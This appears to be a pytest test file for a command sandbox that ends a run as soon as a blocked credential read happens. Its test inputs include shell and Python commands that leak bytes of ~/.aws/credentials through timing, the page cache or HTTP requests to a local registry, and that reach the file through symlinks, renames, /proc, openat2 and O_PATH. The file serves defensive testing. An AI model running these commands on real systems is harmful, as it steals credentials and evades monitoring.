"""A run whose credential read is certainly blocked stops at that read (issue 13, round 5).

Where the configured judgement of any credential read is a block (approver
block; policy or auto with no LLM and on_unsure=block), the tracer ends the
whole run in the call that would give the command a credential, before it
returns. So nothing the command does after it can carry the value out: not
the time the call or the run takes (`sleep $byte`), not the page cache of a
file shared with the host (a later run, or the host, probing it), not bytes
through a host the run may reach (`--allow-net`). Each channel is shown
closed by what the command did after the read never happening; and the
names a credential can be reached by (links, renames, /proc, openat2, O_PATH,
threads, scripts) each stop the run. Where the judgement could still allow
the read (an LLM, on_unsure=ask), the run goes on and is judged as before.
"""
from __future__ import annotations

import ctypes
import json
import mmap
import os
import shlex
import shutil
import subprocess
import sys

import pytest

from caper.config import Config, LlmConfig
from caper.judge import (AutoApprover, BlockApprover, blocks_every_credential_read,
                         get_approver)
from caper.judge.llm import LlmApprover
from caper.judge.policy import PolicyApprover
from caper.report.secrets import default_patterns, protected_for
from caper.sandbox._native import ffi, lib
from caper.sandbox.events import End
from caper.transaction import run
from helpers.llm_server import GOOD, LlmServer
from helpers.report import AWS_SECRET, JUDGED_AFTER, SECRET
from helpers.rootless import NOBODY, nobody_project, run_as_nobody
from registry import Registry, command_env

PY = "/usr/bin/python3"
STOPPED = "stopped at a credential read"
CRED = "~/.aws/credentials"


def _go(command, repo, home, tmp_path, approver="block", **kw):
    return run(command, cwd=str(repo), workspace=str(repo), env=command_env(str(home)),
               state_dir=str(tmp_path / "state"), approver=approver,
               config=kw.pop("config", Config()), **kw)


def _created(out) -> set[str]:
    return {os.path.basename(c.path) for c in out.report.all_changes}


def _assert_stopped(out, kind: str | None = "aws-credentials"):
    text = json.dumps(out.to_json()) + (out.card() or "")
    assert out.decision == "block" and not out.committed, out.reason
    assert STOPPED in out.reason and (kind is None or f"({kind})" in out.reason), out.reason
    assert out.report.end.how == End.CREDENTIAL.name.lower(), out.report.card()
    assert "after" not in _created(out), out.report.card()
    assert out.withheld and out.stdout.text() == b"" and out.stderr.text() == b""
    for secret in (AWS_SECRET, SECRET):
        assert secret not in text and secret[::-1] not in text


# ---- (a) the time of the call ------------------------------------------------------

# The first byte of the secret spelt as a delay: before, the blocked run took
# that long and the caller saw it. Now the run ends in the open.
TIMED = ("touch before; n=$(tail -c 2 ~/.aws/credentials | head -c 1 | od -An -tu1); "
         "sleep $((n / 100)); touch after")


@pytest.mark.parametrize("approver,on_unsure", [("block", "block"), ("policy", "block"),
                                                ("auto", "block")])
def test_the_time_of_a_blocked_credential_read_carries_nothing(repo, home, tmp_path, approver,
                                                               on_unsure):
    out = _go(TIMED, repo, home, tmp_path, approver,
              config=Config(on_unsure=on_unsure))
    _assert_stopped(out)
    assert "before" in _created(out), out.report.card()   # the run did start
    assert any(r.kind == "aws-credentials" for r in out.report.protected_reads)


def test_a_run_that_reads_no_credential_is_not_stopped(repo, home, tmp_path):
    out = _go("cat src/m0.c > /dev/null; touch after", repo, home, tmp_path, "policy")
    assert out.committed and STOPPED not in out.reason, out.reason
    assert (repo / "after").exists()


# ---- (b) the page cache of a file the run shares with the host --------------------

PAGES = 1024          # a 4 MiB probe: caper's own look at a file the run read takes its head
SPELT = range(512, 1024)   # the pages the command's touch spells the byte in


def _resident(path) -> int:
    """Pages of path in the page cache (mincore(2) of a mapping of it)."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                          ctypes.c_int, ctypes.c_long]
    libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p]
    libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
    size = PAGES * 4096
    with open(path, "rb") as f:
        addr = libc.mmap(None, size, mmap.PROT_READ, mmap.MAP_SHARED, f.fileno(), 0)
        if addr in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "mmap(probe)")
    try:
        buf = (ctypes.c_ubyte * PAGES)()
        if libc.mincore(addr, size, buf) != 0:
            raise OSError(ctypes.get_errno(), "mincore(probe)")
        return sum(buf[i] & 1 for i in SPELT)
    finally:
        libc.munmap(addr, size)


# Evicts the probe, reads the credential, then touches a page of SPELT by its byte:
# which page is cached spells the byte to whoever looks next.
PROBE = (f"{PY} -c \"import os; f = os.open('probe', os.O_RDONLY); "
         "os.posix_fadvise(f, 0, 0, os.POSIX_FADV_DONTNEED); "
         "b = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()[-2]; "
         f"os.pread(f, 1, ({SPELT.start} + b % {len(SPELT)}) * 4096)\"; touch after")


@pytest.mark.parametrize("stopped", [True, False], ids=["stopped", "judged-after"])
def test_a_page_cache_probe_finds_nothing_of_a_blocked_credential_read(repo, home, tmp_path,
                                                                       stopped):
    probe = repo / "probe"
    probe.write_bytes(os.urandom(PAGES * 4096))
    with open(probe, "rb") as f:
        os.fsync(f.fileno())
        os.posix_fadvise(f.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
    if _resident(probe):
        pytest.skip("this filesystem keeps the probe cached after POSIX_FADV_DONTNEED")
    out = _go(PROBE, repo, home, tmp_path, **({} if stopped else JUDGED_AFTER))
    if stopped:
        _assert_stopped(out)
        assert _resident(probe) == 0
    else:   # the channel the stop closes: the run went on and cached a page
        assert not out.committed and _resident(probe) >= 1, out.report.card()


# ---- (c) bytes through a host the run may reach -----------------------------------

SEND = (f"{PY} -c \"import os, urllib.request as u; get = lambda p: u.urlopen("
        "'http://{host}' + p).read(); get('/simple/demo-pkg'); "
        "b = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()[-2]; "
        "get('/simple/demo-pkg?%d' % b)\"; touch after")


def test_an_allowed_host_receives_nothing_after_a_blocked_credential_read(repo, home, tmp_path):
    root = tmp_path / "registry"
    root.mkdir()
    with Registry(root) as registry:
        out = _go(SEND.format(host=registry.host), repo, home, tmp_path, "policy",
                  allow_net=[registry.host])
        _assert_stopped(out)
        # the way out was open (the first request went through), and nothing followed
        assert registry.requests == [("GET", "/simple/demo-pkg")] and registry.uploads == []


# ---- the names a credential is reached by -----------------------------------------

OPENAT2 = (f"{PY} -c \"import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
           "home = os.open(os.path.expanduser('~'), os.O_PATH); "
           "how = (ctypes.c_uint64 * 3)(os.O_RDONLY | os.O_NOFOLLOW, 0, 0x10 | 0x08); "
           "fd = libc.syscall(437, home, b'/.aws/credentials', how, 24); "
           "print(os.read(fd, 100) if fd >= 0 else ctypes.get_errno())\"; touch after")
ROUTES = {
    "symlink": f"ln -s {CRED} /tmp/e && cat /tmp/e; touch after",
    "symlinked-directory": "ln -s ~/.aws /tmp/d && cat /tmp/d/credentials; touch after",
    "link-in-the-run": f"ln {CRED} ~/h; cat ~/h; touch after",
    "rename-of-its-directory": "mv ~/.aws ~/x; cat ~/x/credentials; touch after",
    "rename-exchange": (f"echo hi > ~/x && {PY} -c \"import ctypes, os; ctypes.CDLL(None)."
                        "renameat2(-100, os.path.expanduser('~/x').encode(), -100, "
                        "os.path.expanduser('~/.aws/credentials').encode(), 2)\"; "
                        "cat ~/x; touch after"),
    "proc-self-root": "cat /proc/self/root$HOME/.aws/credentials; touch after",
    "openat2-resolve-in-root": OPENAT2,
    "o-path-then-proc-fd": (f"{PY} -c \"import os; fd = os.open(os.path.expanduser("
                            "'~/.aws/credentials'), os.O_PATH); "
                            "print(open('/proc/self/fd/%d' % fd).read())\"; touch after"),
    "a-thread": (f"{PY} -c \"import os, threading; t = threading.Thread(target=lambda: "
                 "print(open(os.path.expanduser('~/.aws/credentials')).read())); "
                 "t.start(); t.join()\"; touch after"),
    "a-script": "printf 'cat ~/.aws/credentials\\n' > r.sh && sh r.sh; touch after",
    "an-executed-script": ("printf '#!/bin/sh\\nrev ~/.aws/credentials\\n' > r && chmod +x r "
                           "&& ./r; touch after"),
}


@pytest.mark.parametrize("route", ROUTES)
def test_a_credential_reached_by_any_name_stops_the_run(repo, home, tmp_path, route):
    out = _go(ROUTES[route], repo, home, tmp_path)
    _assert_stopped(out)


def test_a_hard_link_made_before_the_run_is_read_as_the_file_it_names(repo, home, tmp_path):
    """The link's own name is no credential's: the report does not count its
    read either (the tracer asks the report's rules), and the run goes on."""
    os.link(home / ".aws" / "credentials", repo / "h")
    out = _go("cat h > /dev/null; touch after", repo, home, tmp_path)
    assert STOPPED not in out.reason and "after" in _created(out)


def test_a_settings_only_credential_file_is_not_stopped_at(repo, home, tmp_path):
    """~/.aws/config with a region only: no value to carry, no credential
    read to the policy, so the run goes on and is judged as before."""
    (home / ".aws" / "config").write_text("[default]\nregion = eu-west-1\n")
    out = _go("cat ~/.aws/config > /dev/null; touch after", repo, home, tmp_path, "policy")
    assert STOPPED not in out.reason and "after" in _created(out), out.reason


# ---- where the judgement could still allow it ---------------------------------------

def test_with_an_llm_configured_a_credential_read_is_judged_as_before(repo, home, tmp_path):
    server = LlmServer()
    try:
        server.answer = {**GOOD, "decision": "block", "reason": "it read a credential"}
        config = Config(llm=LlmConfig(base_url=server.url + "/v1", model="judge"))
        out = _go(TIMED.replace("sleep $((n / 100))", "true"), repo, home, tmp_path, "auto",
                  config=config)
        assert STOPPED not in out.reason and "after" in _created(out), out.reason
        assert out.approver == "llm" and len(server.requests) == 1 and out.withheld
    finally:
        server.close()


def test_which_judgements_stop_at_a_credential_read(monkeypatch):
    for var in ("CAPER_LLM_BASE_URL", "CAPER_LLM_MODEL"):
        monkeypatch.delenv(var, raising=False)
    llm = Config(llm=LlmConfig(base_url="http://127.0.0.1:1/v1", model="m"))
    for name, config, on_unsure, stops in [
            ("block", Config(), "allow", True), ("allow", Config(), "block", False),
            ("policy", Config(), "block", True), ("policy", Config(), "ask", False),
            ("policy", Config(), "allow", False), ("auto", Config(), "block", True),
            ("auto", Config(on_unsure="ask"), "ask", False), ("auto", llm, "block", False),
            ("llm", llm, "block", False)]:
        judge = get_approver(name, config, {})
        assert blocks_every_credential_read(judge, on_unsure) is stops, (name, on_unsure)
    assert blocks_every_credential_read(BlockApprover(), "ask")
    assert not blocks_every_credential_read(
        AutoApprover(PolicyApprover(), LlmApprover(llm.llm)), "block")


# ---- the tracer's candidates cover the report's rules --------------------------------

def test_every_credential_the_report_names_is_a_candidate_of_the_tracer(home, repo):
    protected = protected_for(default_patterns(), str(home), str(repo))
    k = ffi.new("struct caper_credentials *")

    def strings(items):
        c = [ffi.new("char[]", x.encode()) for x in items]
        arr = ffi.new("char *[]", c or [ffi.NULL])
        keep.append((c, arr))
        return arr
    keep: list = []
    rooted = ffi.new("uint8_t[]", [int(r) for _, r in protected.stop_globs])
    k.globs, k.rooted, k.n_globs = strings([g for g, _ in protected.stop_globs]), rooted, \
        len(protected.stop_globs)
    k.homes, k.n_homes = strings(protected.stop_homes), len(protected.stop_homes)
    k.home_globs, k.n_home_globs = strings(protected.stop_below_home), \
        len(protected.stop_below_home)
    k.n_translations = 0
    paths = [f"{home}/.aws/credentials", f"{home}/.ssh/id_ed25519", f"{repo}/.env",
             f"{repo}/sub/dir/.env.local", "/root/.ssh/id_rsa", "/home/u/.netrc",
             "/etc/ssl/private/x.key", f"{repo}/a/b/server.key", f"{home}/.docker/config.json",
             f"{home}/.config/gcloud/x/y.json", f"{repo}/src/m0.c", "/usr/lib/libc.so.6",
             f"{home}/.ssh/id_ed25519.pub", "/home/u/.bashrc"]
    for path in paths:
        candidate = lib.caper_credential_candidate(k, path.encode(), 0)
        if protected.kind(path):
            assert candidate, path
    assert not lib.caper_credential_candidate(k, b"/usr/lib/libc.so.6", 0)
    assert not lib.caper_credential_candidate(k, f"{repo}/src/m0.c".encode(), 0)
    # a directory holding one (a rename gives them all new names)
    for d in (f"{home}/.aws", str(home), "/home", "/"):
        assert lib.caper_credential_candidate(k, d.encode(), 1), d
    assert not lib.caper_credential_candidate(k, f"{repo}/src".encode(), 1)


# ---- rootless ----------------------------------------------------------------------

@pytest.mark.parametrize("route", ["timed", "symlink", "rename-of-its-directory"])
def test_rootless_a_blocked_credential_read_stops_the_run(route):
    with nobody_project("caper-credstop-") as (ws, state):
        home = state.parent / "home"
        (home / ".aws").mkdir(parents=True)
        (home / ".aws" / "credentials").write_text(f"aws_secret_access_key = {AWS_SECRET}\n")
        for p in (home, home / ".aws", home / ".aws" / "credentials"):
            os.chown(p, NOBODY, NOBODY)
        command = TIMED if route == "timed" else ROUTES[route]
        out = run_as_nobody(ws, command, "block", state, home=home)
        assert STOPPED in out["reason"] and "(aws-credentials)" in out["reason"], out["reason"]
        assert out["stdout"] == "" and AWS_SECRET not in json.dumps(out)
        report = json.loads(out["report"])
        assert not any(c["path"].endswith("after") for c in report.get("changes", [])), report


BIND_RUN = r"""
import json, sys
sys.path.insert(0, sys.argv[1])
import caper
out = caper.run(sys.argv[2], cwd=sys.argv[3], workspace=sys.argv[3], approver="block",
                env={"PATH": "/usr/bin:/bin", "HOME": sys.argv[4]}, state_dir=sys.argv[5])
print(json.dumps({"reason": out.reason, "changes": [c.path for c in out.report.all_changes]}))
"""


def test_a_credential_reached_through_a_bind_mount_stops_the_run(repo, home, tmp_path):
    """~/.aws bound at another path: the mount table says what it shows
    (protected_for's translations), and the tracer asks that name too. The
    bind is made in a mount namespace of the test's own, never the host's."""
    if os.geteuid() != 0 or not shutil.which("unshare"):
        pytest.skip("needs root and unshare(1) for a private mount namespace")
    alias = tmp_path / "elsewhere"
    alias.mkdir()
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    script = (f"mount --bind {shlex.quote(str(home / '.aws'))} {shlex.quote(str(alias))} && "
              + shlex.join([sys.executable, "-P", "-c", BIND_RUN, root,
                            f"cat {alias}/credentials; touch after", str(repo), str(home),
                            str(tmp_path / "state")]))
    p = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", script],
                       capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr[-2000:]
    out = json.loads(p.stdout)
    assert STOPPED in out["reason"] and "(aws-credentials)" in out["reason"], out
    assert not any(c.endswith("after") for c in out["changes"]) and AWS_SECRET not in p.stdout


@pytest.mark.parametrize("fixture", ["race_open_noise", "race_openat2_flags"])
def test_a_name_rewritten_to_a_credential_after_the_stop_still_stops_the_run(
        fixture, repo, home, tmp_path, cfixture):
    """A second thread rewrites the name (a missing path to the credential)
    or openat2's flags (O_WRONLY to O_RDONLY) after the tracer read them: the
    open's exit stops the run on what was opened, before the call returns,
    without waiting for Python (the threads share the descriptor)."""
    prog = cfixture(fixture, "-pthread")
    cred = os.path.relpath(home / ".aws" / "credentials", repo)
    out = _go(f"{prog} {cred}; touch after", repo, home, tmp_path)
    _assert_stopped(out, kind=None)   # "credential" where the exit stopped it unasked
    assert out.report.read_credentials == ["aws-credentials"], out.report.card()
